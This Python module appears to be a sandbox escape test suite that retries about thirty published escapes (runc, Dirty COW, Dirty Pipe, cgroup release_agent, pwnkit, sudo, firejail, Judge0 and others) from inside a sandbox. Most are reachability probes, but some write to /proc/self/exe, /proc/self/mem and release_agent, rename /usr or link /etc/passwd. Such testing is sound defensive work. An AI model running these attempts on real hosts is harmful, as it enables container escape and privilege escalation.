"""Published escapes of this kind of software, each by its number or name: what it did there, tried here."""

from inside import TMP, attack, call, check, child_ends, file_roundtrip, in_child, own_memory_reads, proc_is_there, unix_socket_works

import ctypes
import os
import subprocess
import sys

USER, MOUNT, NET = 0x10000000, 0x20000, 0x40000000


@attack("writes", proc_is_there)
def cve_2019_5736_runc_exe(facts):
    """runc: overwrite the program that runs you, by /proc/self/exe."""
    fd = os.open("/proc/self/exe", os.O_PATH)
    with open(f"/proc/self/fd/{fd}", "r+b") as program:
        program.write(b"#!/tmp/x\n")
    return "overwritten"


@attack("writes", proc_is_there)
def cve_2019_5736_runc_init(facts):
    """runc: the same with the program of the process that made the container."""
    with open("/proc/1/exe", "r+b") as program:
        program.write(b"#!/tmp/x\n")
    return "overwritten"


@attack("reads", proc_is_there)
def cve_2024_21626_runc_leaked_folder(facts):
    """runc: a descriptor of a folder of the host was left open; climb from each one that there is."""
    for name in os.listdir("/proc/self/fd"):
        try:
            with open(f"/proc/self/fd/{name}/../../../../../.." + facts["open_file"]) as file:
                return file.read()
        except OSError as error:
            last = error
    raise last


@attack("reads", proc_is_there)
def cve_2024_21626_runc_cwd(facts):
    """runc: the working folder itself lay outside."""
    return os.getcwd() != os.path.realpath(TMP) and os.getcwd()


@attack("privilege", file_roundtrip)
def cve_2022_0492_release_agent(facts):
    """Kernel: have cgroup v1 run a program of ours as the host's root at a group's end."""

    def run():
        call("unshare", USER | MOUNT | 0x2000000)
        os.mkdir(TMP + "/cg")
        call("mount", b"cgroup", b"/tmp/cg", b"cgroup", 0, b"rdma")
        with open(TMP + "/cg/release_agent", "w") as file:
            file.write(TMP + "/x")
        return 1

    return check(in_child(run)) == 1 and "set"


@attack("privilege", file_roundtrip)
def release_agent_direct(facts):
    """The same where the groups are mounted already (the felix trick of 2019)."""
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        if "release_agent" in files:
            with open(folder + "/release_agent", "w") as file:
                file.write(TMP + "/x")
            return folder
    raise FileNotFoundError(2, "no release_agent is there")


@attack("surface", file_roundtrip)
def cve_2022_0185_fsconfig(facts):
    """Kernel: an overflow in legacy_parse_param, reached by fsopen in a user namespace."""

    def run():
        call("unshare", USER | MOUNT)
        return call("fsopen", b"ext4", 0) + 1

    return check(in_child(run)) > 0 and "reached"


@attack("surface", file_roundtrip)
def cve_2024_1086_nf_tables(facts):
    """Kernel: a double free in nf_tables, reached by a netlink socket in user and network namespaces."""

    def run():
        call("unshare", USER | NET)
        return call("socket", 16, 3, 12) + 1

    return check(in_child(run)) > 0 and "reached"


@attack("privilege", file_roundtrip)
def cve_2023_0386_overlayfs(facts):
    """Kernel: a set-user-id file copied up by an overlay in a user namespace."""

    def run():
        call("unshare", USER | MOUNT)
        for name in ("l", "u", "w", "m"):
            os.mkdir(TMP + "/" + name)
        call("mount", b"overlay", b"/tmp/m", b"overlay", 0, b"lowerdir=/tmp/l,upperdir=/tmp/u,workdir=/tmp/w")
        return 1

    return check(in_child(run)) == 1 and "mounted"


@attack("privilege", file_roundtrip)
def cve_2021_3493_overlayfs(facts):
    """Ubuntu's kernel: file capabilities set through an overlay in a user namespace."""
    os.mkdir(TMP + "/c")
    open(TMP + "/c/x", "w").close()
    os.setxattr(TMP + "/c/x", "security.capability", bytes.fromhex("0100000200200000000000000000000000000000"))
    return "set"


@attack("writes", file_roundtrip)
def cve_2022_0847_dirty_pipe(facts):
    """Kernel: write into the page cache of a file that can only be read, by splice and a pipe."""
    read, write = os.pipe()
    os.write(write, bytes(65536))
    os.read(read, 65536)
    fd = os.open("/usr/bin/env", os.O_RDONLY)
    before = os.pread(fd, 2, 0)
    os.splice(fd, write, 1, offset_src=0) if hasattr(os, "splice") else None
    os.write(write, b"\xfe")
    return os.pread(fd, 2, 0) != before and "changed"


@attack("writes", own_memory_reads)
def cve_2016_5195_dirty_cow(facts):
    """Kernel: write to a private mapping of a read-only file by /proc/self/mem while it is dropped."""
    import mmap
    import threading

    fd = os.open("/usr/bin/env", os.O_RDONLY)
    before = os.pread(fd, 4, 0)
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
    stop = []

    def drop():
        while not stop:
            libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(4096), 4)

    thread = threading.Thread(target=drop)
    thread.start()
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
        for _ in range(2000):
            os.pwrite(memory, b"EVIL", at)
    finally:
        stop.append(1)
        thread.join()
    return os.pread(fd, 4, 0) != before and "changed"


@attack("writes", proc_is_there)
def cve_2017_5226_bubblewrap_tiocsti(facts):
    """bubblewrap: type into the terminal that the sandbox was started from."""
    import fcntl

    fcntl.ioctl(os.open("/proc/self/fd/0", os.O_RDWR), 0x5412, b"i")
    return "typed"


@attack("privilege", proc_is_there)
def cve_2020_5291_bubblewrap_setuid(facts):
    """bubblewrap, set-user-id: a traced or dumpable helper gives its capabilities."""
    call("ptrace", 0x4206, 1, 0, 0)
    return "seized"


@attack("privilege", file_roundtrip)
def cve_2022_31214_firejail_join(facts):
    """firejail: a made-up process that looks like a sandbox to join, with no_new_privs off."""
    for path in ("/usr/bin/firejail", "/usr/local/bin/firejail", "/usr/bin/bwrap"):
        if os.path.exists(path) and os.stat(path).st_mode & 0o4000:
            done = subprocess.run([path, "--join=" + str(os.getpid()), "id", "-u"], capture_output=True, text=True)
            if done.stdout.strip() == "0":
                return path
    raise PermissionError(1, "no such helper gives anything")


@attack("writes", file_roundtrip)
def cve_2021_26910_firejail_overlay(facts):
    """firejail: a race in its overlay; here: rename what the root is made of while it is used."""
    os.rename("/usr", "/usr2")
    return "renamed"


@attack("reads", proc_is_there)
def nsjail_proc_fd(facts):
    """nsjail with a bind-mounted /proc: files of the host by the descriptors of its own process."""
    return [name for name in os.listdir("/proc/1/fd")]


@attack("surface", file_roundtrip)
def nsjail_clone_newuser(facts):
    """nsjail without a seccomp policy: a nested user namespace, with all its capabilities in it."""
    return check(in_child(lambda: call("unshare", USER) + 1)) == 1 and "made"


@attack("writes", file_roundtrip)
def cve_2024_28185_judge0_symlink(facts):
    """Judge0: a link where the sandbox's owner writes a file; here: /runtime/script.py before the next run."""
    try:
        os.remove("/runtime/script.py")
    except OSError:
        pass
    os.symlink(facts["open_folder"] + "/by-link", "/runtime/script.py")
    return None  # the next run's script must be written into its own /runtime: looked at from outside


@attack("writes", file_roundtrip)
def cve_2024_28189_judge0_chown(facts):
    """Judge0: chown(1) by root on a link in the sandbox; here: links for whoever cleans up."""
    os.symlink(facts["open_folder"], TMP + "/cleaned")
    os.symlink("/etc/passwd", "/dev/shm/cleaned")
    return None  # what cleaning does is looked at from outside


@attack("network", unix_socket_works)
def cve_2024_29021_judge0_network(facts):
    """Judge0: the sandbox reached the service's own database over the network."""
    import socket

    return socket.create_connection(("127.0.0.1", facts["tcp"]), 1).recv(20)


@attack("surface", child_ends)
def cve_2019_13272_traceme(facts):
    """Kernel: PTRACE_TRACEME of a child whose parent is privileged."""

    def run():
        return call("ptrace", 0, 0, 0, 0) + 1

    return check(in_child(run)) == 1 and "traced"


@attack("privilege", file_roundtrip)
def cve_2021_4034_pwnkit(facts):
    """polkit: pkexec with no arguments and a made-up environment."""
    if not os.path.exists("/usr/bin/pkexec"):
        raise FileNotFoundError(2, "pkexec isn't there")
    done = subprocess.run([""], executable="/usr/bin/pkexec", env={"GCONV_PATH": ".", "CHARSET": "x", "SHELL": "x"}, capture_output=True, text=True)
    return "uid=0" in done.stdout and "root"


@attack("privilege", file_roundtrip)
def cve_2021_3156_sudo(facts):
    """sudo: an overflow before it asks who you are; needs the set-user-id bit to count."""
    if not os.path.exists("/usr/bin/sudo"):
        raise FileNotFoundError(2, "sudo isn't there")
    done = subprocess.run(["sudoedit", "-s", "\\"], executable="/usr/bin/sudo", capture_output=True, text=True)
    return "nosuid" not in done.stderr and "no new privileges" not in done.stderr and done.returncode == 0 and "it ran"


@attack("surface", file_roundtrip)
def cve_2022_2588_route4(facts):
    """Kernel: a use after free in the traffic classifier, by a routing socket in a user namespace."""

    def run():
        call("unshare", USER | NET)
        return call("socket", 16, 3, 0) + 1

    return check(in_child(run)) > 0 and "reached"


@attack("surface", file_roundtrip)
def cve_2021_22555_setsockopt(facts):
    """Kernel: an out-of-bounds write in x_tables, by setsockopt on an internet socket."""
    call("socket", 2, 1, 0)
    return "reached"


@attack("surface", file_roundtrip)
def cve_2022_29582_io_uring(facts):
    """Kernel: one of io_uring's many uses after free."""
    return call("io_uring_setup", 8, (ctypes.c_uint32 * 30)()) >= 0 and "reached"


@attack("surface", file_roundtrip)
def cve_2021_3490_ebpf(facts):
    """Kernel: the verifier believes a wrong bound."""
    return call("bpf", 0, (ctypes.c_uint32 * 18)(1, 4, 4, 4), 72) >= 0 and "reached"


@attack("reads", file_roundtrip)
def docker_shocker(facts):
    """Docker before 1.0: open the host's root by its inode number."""
    handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
    return os.listdir(call("open_by_handle_at", os.open("/app", os.O_RDONLY), handle, 0o200000))


@attack("privilege", child_ends)
def cve_2023_4911_looney(facts):
    """glibc: an overflow in GLIBC_TUNABLES of a set-user-id program."""
    for path in ("/usr/bin/su", "/usr/bin/mount"):
        if os.path.exists(path):
            done = subprocess.run([path, "--help"], env={"GLIBC_TUNABLES": "glibc.malloc.mxfast=glibc.malloc.mxfast=A" + "B" * 4000}, capture_output=True)
            with open("/proc/self/status") as status:
                return "NoNewPrivs:\t0" in status.read() and f"{path} ran with privileges ({done.returncode})"
    raise FileNotFoundError(2, "no set-user-id program is there")


@attack("reads", file_roundtrip)
def introspection(facts):
    """snekbox and its like were once `exec` in the service's own process: climb by Python's objects to what the service holds."""
    names = {cls.__module__ for cls in object.__subclasses__()}
    frame = sys._getframe()
    while frame.f_back is not None:
        frame = frame.f_back
        for value in list(frame.f_globals.values()):
            if isinstance(value, (bytes, str)) and facts["variable_value"] in str(value):
                return frame.f_code.co_name if "facts" not in frame.f_locals else None
    return "service" in names and "found"


@attack("reads", proc_is_there)
def dify_plugin_key(facts):
    """dify-sandbox kept its key where scripts could read it: look into the own process's memory map for files of the service."""
    with open("/proc/self/maps") as maps:
        return [line.split()[-1] for line in maps if line.rstrip().endswith((".key", ".pem", ".conf"))]
